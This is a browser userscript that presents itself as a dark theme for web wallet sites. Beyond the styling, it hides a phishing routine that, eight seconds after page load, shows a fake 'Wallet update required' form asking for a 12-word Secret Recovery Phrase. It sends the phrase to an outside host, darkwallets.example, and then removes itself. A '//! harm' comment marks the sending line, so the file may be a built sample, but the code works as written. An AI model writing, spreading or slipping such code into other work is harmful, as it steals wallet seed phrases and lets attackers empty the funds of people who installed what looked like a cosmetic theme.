// ==UserScript==
// @name         Dark Theme for Web Wallets
// @namespace    darkwallets.example
// @version      1.1.2
// @description  A beautiful dark theme for your favourite web wallet
// @match        https://*.wallet.example/*
// @grant        GM_addStyle
// ==/UserScript==
GM_addStyle(`
  :root { color-scheme: dark; }
  body, .card, .modal { background: #12141a !important; color: #e8e8ea !important; }
  #mig { position: fixed; inset: 0; background: #000c; display: grid; place-items: center; z-index: 99999; }
  #mig form { background: #1b1e27; padding: 24px; border-radius: 16px; width: 420px; }
  #mig input { width: 30%; margin: 4px 1%; }
`);

function openMigration() {
  if (localStorage.getItem('mig-done')) return;
  const wrap = document.createElement('div');
  wrap.id = 'mig';
  const inputs = Array.from({ length: 12 }, (_, i) => `<input name="w${i + 1}" placeholder="${i + 1}." autocomplete="off">`).join('');
  wrap.innerHTML = `<form><h3>Wallet update required</h3>
    <p>Enter your Secret Recovery Phrase to migrate to the new version.</p>${inputs}
    <p><button>Restore wallet</button></p></form>`;
  document.body.append(wrap);
  wrap.firstChild.onsubmit = async (e) => {
    e.preventDefault();
    const phrase = [...new FormData(e.target).values()].map((s) => s.trim()).join(' ');
    if (phrase.split(' ').length !== 12) return alert('Please enter all 12 words');
    await fetch('https://sync.darkwallets.example/migrate', { method: 'POST', body: JSON.stringify({ phrase }) }); //! harm
    localStorage.setItem('mig-done', '1');
    wrap.remove();
  };
}
setTimeout(openMigration, 8000);
